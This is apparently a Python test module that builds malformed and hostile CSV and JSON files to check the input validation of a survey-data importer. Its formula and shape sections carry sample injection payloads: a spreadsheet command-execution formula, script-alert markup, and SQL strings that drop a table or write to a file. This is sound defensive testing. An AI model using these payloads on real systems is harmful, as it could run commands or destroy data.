"""Hostile text files: cut, mixed, too wide, too long, and other formats under the name."""

import json
from collections.abc import Iterator
from pathlib import Path

from tests.hostile.material import (
    Case,
    Rows,
    as_csv,
    column,
    noted,
    refused,
    spoilt,
    survey,
    with_cells,
)

_FOREIGN = {
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0",
    "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF\0",
    "gif": b"GIF89a\1\0\1\0\x80\0\0",
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\x03K\x04\0",
    "seven_zip": b"7z\xbc\xaf\x27\x1c\0\4",
    "rar": b"Rar!\x1a\x07\1\0",
    "rtf": b"{\\rtf1\\ansi Bericht}",
    "html": b"<html><body><table><tr><td>id</td></tr></table></body></html>",
    "html_page": b"\n<!DOCTYPE html>\n<title>Anmelden</title>",
    "svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
}


def _ends() -> Iterator[Case]:
    plain = as_csv(survey("cut"))
    in_quote = plain.rindex(b"Satz") + 2
    yield refused("empty_file", b"", "file_empty")
    yield refused("only_byte_order_mark", b"\xef\xbb\xbf", "file_empty")
    yield refused("only_blank_lines", b"\n\n\r\n  \n", "file_empty")
    yield refused(
        "only_commas", b";;;;\n;;;;\n", "file_empty", "file_without_rows", "file_not_recognised"
    )
    yield refused("only_headings", as_csv(survey()[:1]), "file_without_rows")
    yield refused("cut_in_quote", plain[:in_quote], "file_truncated")
    yield refused("cut_in_row", plain[: plain.rindex(b'";"')], "file_truncated")
    yield refused("cut_in_half", plain[: len(plain) // 2], "file_truncated", "file_unreadable")
    yield refused("nul_in_field", plain.replace(b"Satz", b"Sa\0z"), "file_format_unknown")
    yield refused("nul_tail", plain + b"\0" * 4096, "file_format_unknown", "file_truncated")
    yield refused(
        "utf16_odd_length",
        plain.decode("utf-8-sig").encode("utf-16")[:-1],
        "file_unreadable",
        "file_truncated",
    )
    yield refused(
        "utf8_cut_in_letter", b"\xef\xbb\xbfid;name\n1;K\xc3", "file_unreadable", "file_truncated"
    )
    yield refused(
        "open_quote_early",
        plain.replace(b'"08335043"', b'"08335043', 1),
        "file_truncated",
        "file_unreadable",
        "row_ragged",
    )


def _letters() -> Iterator[Case]:
    plain = as_csv(survey("letters"))
    mixed = plain.removeprefix(b"\xef\xbb\xbf").replace(
        b"Satz letters", b"Sch\xf6n, f\xc3\xbcr uns"
    )
    yield noted("mixed_encodings", mixed, "text_twice_encoded")
    unknown = plain.removeprefix(b"\xef\xbb\xbf").replace(b"Satz letters", b"Sch\xf6n \x81")
    yield Case(
        "bytes_undefined_in_cp1252",
        lambda _: unknown,
        frozenset({"text_characters_lost", "file_unreadable"}),
        kept_back=1,
        may_pass=True,
    )
    yield noted("utf16", as_csv(survey("utf16")).decode("utf-8-sig").encode("utf-16"))
    signs = "zero\u200bwidth \u202etfel\u202c \U0001f600 e\u0301 \u00ad \u2028 \ufffe"
    yield noted("odd_signs_in_text", as_csv(with_cells("signs", {"gesamtkom": signs})))
    yield noted("long_text", as_csv(with_cells("long", {"gesamtkom": "Wort " * 100_000})))
    tabs = "a\tb\x0bc\x0cd\x1be"
    yield noted("control_signs_in_text", as_csv(with_cells("tabs", {"gesamtkom": tabs})))


def _shape() -> Iterator[Case]:
    short = survey("short")
    short[5] = short[5][:-3]
    yield spoilt("row_too_short", as_csv(short), "row_ragged")
    long = survey("long row")
    long[5] += ["mehr", "noch mehr"]
    yield spoilt("row_too_long", as_csv(long), "row_ragged")
    other = as_csv(survey("other")).split(b"\r\n", 1)
    body = other[0] + b"\r\n" + other[1].replace(b'";"', b'","')
    yield refused("separator_changes", body, "file_truncated", "file_unreadable")
    twice = survey("twice")
    twice[0][column("MS[SQ002]")] = "MS[SQ001]"
    yield Case(
        "heading_twice", lambda _: as_csv(twice), frozenset({"heading_repeated"}), kept_back=1
    )
    blank = _wider(survey("blank"), "", "Rest")
    yield noted("heading_empty", as_csv(blank), "heading_unknown")
    extra = _wider(survey("extra"), "{value} {column}", "Rest")
    yield noted("heading_unknown", as_csv(extra), "heading_unknown")
    cells = _wider(survey("sql"), 'x"); DROP TABLE core.answer; --', "1")
    yield noted("heading_with_sql", as_csv(cells), "heading_unknown")
    fewer = [
        [cell for at, cell in enumerate(row) if at != column("MS[SQ003]")]
        for row in survey("fewer")
    ]
    yield noted("question_missing", as_csv(fewer), "item_not_delivered")
    yield refused(
        "other_questionnaire",
        b'"id";"submitdate";"lastpage";"startlanguage";"Q1[SQ1]"\r\n"1";"2025-03-03 10:00:00";"3";"de";"A1"\r\n',
        "instrument_unknown",
        "file_not_recognised",
    )
    yield refused("some_other_table", b"Ort;Wert\nKonstanz;3\n", "file_not_recognised")
    yield refused(
        "prose",
        b"Sehr geehrte Damen und Herren,\nanbei die Datei.\n",
        "file_not_recognised",
        "file_truncated",
        "file_unreadable",
    )
    yield refused(
        "columns_100000",
        b";".join([b"c"] * 100_000) + b"\n" + b";" * 99_999 + b"\n",
        "file_format_unknown",
        "limit_exceeded",
    )
    inserted = survey("inserted")
    inserted.insert(1, ["Erläuterung"] * len(inserted[0]))
    yield noted(
        "explanation_under_headings",
        as_csv(inserted),
        "row_inserted",
        "response_id_missing",
        "ags_unknown",
    )


def _wider(rows: Rows, heading: str, cell: str) -> Rows:
    return [[*row, heading if number == 0 else cell] for number, row in enumerate(rows)]


def _large() -> Iterator[Case]:
    refusals = ("file_format_unknown", "limit_exceeded", "file_unreadable")
    yield refused("line_of_40_mb", lambda _: b"a" * 40_000_000, *refusals)
    yield refused("line_of_1_gb", _gigabyte, *refusals, slow=True)
    last = survey("last")
    last[-1][column("gesamtkom")] = "x" * 40_000_000
    yield refused("last_row_of_40_mb", lambda _: as_csv(last), *refusals)
    yield refused("quotes_only", lambda _: b'"' * 3_000_001, *refusals, "file_truncated")
    yield refused(
        "line_feeds_10_million",
        lambda _: b"a;b\n" + b"\n" * 10_000_000,
        "file_not_recognised",
        "file_empty",
        "file_without_rows",
        *refusals,
    )


def _gigabyte(folder: Path) -> Path:
    path = folder / "line"
    with path.open("wb") as file:
        for _ in range(1024):
            file.write(b"a" * 1024 * 1024)
    return path


def _formulas() -> Iterator[Case]:
    for number, text in enumerate(
        (
            '=HYPERLINK("http://example.org/"&A1;"hier")',
            "=cmd|' /C calc'!A0",
            "+49 7531 900",
            "- wichtiger Teil der Arbeit",
            "@SUM(A1:A9)",
            "\t=1+1",
            "'=1+1",
        )
    ):
        yield noted(f"formula_in_text_{number}", as_csv(with_cells(f"f{number}", {"MSKOM": text})))
    markup = "<script>alert(1)</script><img src=x onerror=alert(1)>{{7*7}}${7*7}%s"
    yield noted("markup_in_text", as_csv(with_cells("markup", {"MSKOM": markup})))
    sql = "'); DROP TABLE core.answer; -- \" ; COPY (SELECT 1) TO '/evil'"
    yield noted("sql_in_text", as_csv(with_cells("sql", {"MSKOM": sql, "amt": sql})))


def _json() -> Iterator[Case]:
    keys, *rows = survey("json")
    records = [dict(zip(keys, row, strict=True)) for row in rows]
    whole = json.dumps({"responses": records})
    yield noted("json_sound", whole.encode())
    yield refused(
        "json_cut", whole[: len(whole) // 2].encode(), "file_truncated", "file_unreadable"
    )
    yield refused(
        "json_cut_after_record", (whole[: whole.rindex("{") - 2]).encode(), "file_truncated"
    )
    yield refused("json_garbage", b'{"responses": [{"id": 1,, "x"}]}', "file_unreadable")
    yield refused("json_tail", (whole + "]]").encode(), "file_unreadable", "file_truncated")
    yield refused(
        "json_deep",
        b'{"responses": [{"id": ' + b"[" * 200_000 + b"]" * 200_000 + b"}]}",
        "file_unreadable",
    )
    yield refused(
        "json_key_twice", whole.replace('"welle"', '"AGS"', 1).encode(), "json_key_repeated"
    )
    yield refused("json_nan", whole.replace('"t0"', "NaN", 1).encode(), "file_unreadable")
    yield refused(
        "json_infinity", whole.replace('"t0"', "-Infinity", 1).encode(), "file_unreadable"
    )
    yield refused(
        "json_half_letter", whole.replace("Satz json", "Satz \\ud83d").encode(), "file_unreadable"
    )
    yield refused(
        "json_nul",
        whole.replace("Satz json", "Satz \\u0000").encode(),
        "file_unreadable",
        "file_format_unknown",
    )
    yield refused(
        "json_latin1", whole.replace("Satz json", "Satz ö").encode("latin-1"), "file_unreadable"
    )
    yield refused("json_no_list", b'{"id": 1, "AGS": "08335043"}', "file_format_unknown")
    yield refused("json_empty_list", b'{"responses": []}', "file_without_rows")
    yield refused(
        "json_list_of_numbers",
        b'{"responses": [1, 2, 3]}',
        "file_format_unknown",
        "file_unreadable",
    )
    big = whole.replace('"Satz json."', "9" * 100_000)
    yield noted("json_endless_number", big.encode())
    wide = json.dumps([{f"k{x}": 1 for x in range(30_000)}])
    yield refused("json_30000_keys", wide.encode(), "file_format_unknown", "limit_exceeded")


def cases() -> Iterator[Case]:
    """All hostile text files."""
    yield noted("sound_csv", as_csv(survey("sound")))
    yield from _ends()
    yield from _letters()
    yield from _shape()
    yield from _large()
    yield from _formulas()
    yield from _json()
    for name, start in _FOREIGN.items():
        yield refused(f"{name}_called_csv", start + b" csv", "file_format_unknown")
        yield refused(
            f"{name}_called_xlsx", start + b" xlsx", "file_format_unknown", file_name=f"{name}.xlsx"
        )
